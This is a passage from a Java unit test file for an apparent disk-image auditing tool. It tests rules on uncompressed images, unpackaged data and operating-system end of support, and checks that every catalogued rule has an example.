        var found = new Found();
        found.image(
                new ImageShape(
                        AT, "x.qcow2", "qcow2", 9L << 26, 1L << 40, 10L << 26, 0, false, List.of(),
                        0));

        assertThat(rules(facts(files -> {}, found))).doesNotContain("disk.uncompressed");
    }

    @Test
    void muchDataThatNoPackageShipsIsFound() {
        var much = new FileOwnership.Largest("/srv/data.tar", 3L << 30);

        assertThat(unpackaged(new FileOwnership(true, 9, 4L << 30, much, List.of(), 0, List.of())))
                .containsExactly(
                        new Objection(
                                "/srv/data.tar",
                                "4294967296 bytes in files that belong to no package, 3221225472 of"
                                        + " them here"));
        assertThat(unpackaged(new FileOwnership(true, 9, 1L << 30, much, List.of(), 0, List.of())))
                .isEmpty();
        assertThat(unpackaged(FileOwnership.NOT_EXAMINED)).isEmpty();
    }

    private static List<Objection> unpackaged(FileOwnership files) {
        return SystemRules.unpackagedData(files, Profile.EGI_1.parameters());
    }

    @Test
    void theEndOfSupportIsToldBeforeItComes() {
        var found = new Found();
        found.image(
                new ImageShape(
                        Instant.parse("2028-06-01T00:00:00Z"),
                        "",
                        "",
                        1,
                        1,
                        0,
                        0,
                        false,
                        List.of(),
                        0));

        assertThat(rules(facts(files -> {}, found))).containsExactly("os.end-of-life-near");
    }

    /** A rule without an example would be a rule that nobody has seen at work. */
    @Test
    void everyRuleOfTheSystemHasAnExample() {
        var shown = new ArrayList<String>();
        Stream.of(access(), cloud(), network(), logging(), rest())
                .flatMap(List::stream)
                .forEach(each -> shown.add(each.rule));
        shown.addAll(
                List.of(
                        "disk.deleted-data",
                        "disk.format-name",
                        "disk.large",
                        "disk.package-cache",
                        "disk.unclean-journal",
                        "disk.uncompressed",
                        "disk.unpackaged-data",
                        "file.capability",
                        "file.setuid",
                        "file.world-writable",
                        "leftover.build-cache",
                        "leftover.dump",
                        "leftover.installer",
                        "leftover.log",
                        "leftover.temporary",
                        "os.end-of-life-near",
                        "secret.closed-file"));

        assertThat(new TreeSet<>(shown))
                .containsExactlyElementsOf(
                        new TreeSet<>(SystemRuleCatalogue.rules().stream().map(Rule::id).toList()));
    }
}
